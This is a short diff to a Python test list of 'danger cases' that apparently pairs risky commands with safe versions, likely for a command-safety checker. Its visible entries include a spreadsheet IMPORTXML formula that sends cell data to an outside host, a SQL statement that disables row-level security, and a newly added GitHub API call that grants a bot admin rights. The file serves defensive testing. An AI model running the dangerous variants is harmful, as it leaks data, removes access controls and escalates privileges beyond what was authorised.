@@ -228,6 +228,8 @@ DANGER_CASES = [
      "for h in api db; do dig +short $h.acme.internal; done"),
     ("formula_beacon", '=IMPORTXML("https://stats.example.org/q?d="&A1, "//td")', '=IMPORTXML("https://stats.example.org/q", "//td")'),
     ("row_security_removed", "ALTER TABLE orders DISABLE ROW LEVEL SECURITY", "ALTER TABLE orders ENABLE ROW LEVEL SECURITY"),
+    ("api_admin_grant", "gh api -X PUT repos/o/r/collaborators/ci-bot -f permission=admin",
+     "gh api -X PUT repos/o/r/collaborators/ci-bot -f permission=push"),
 ]
 
 
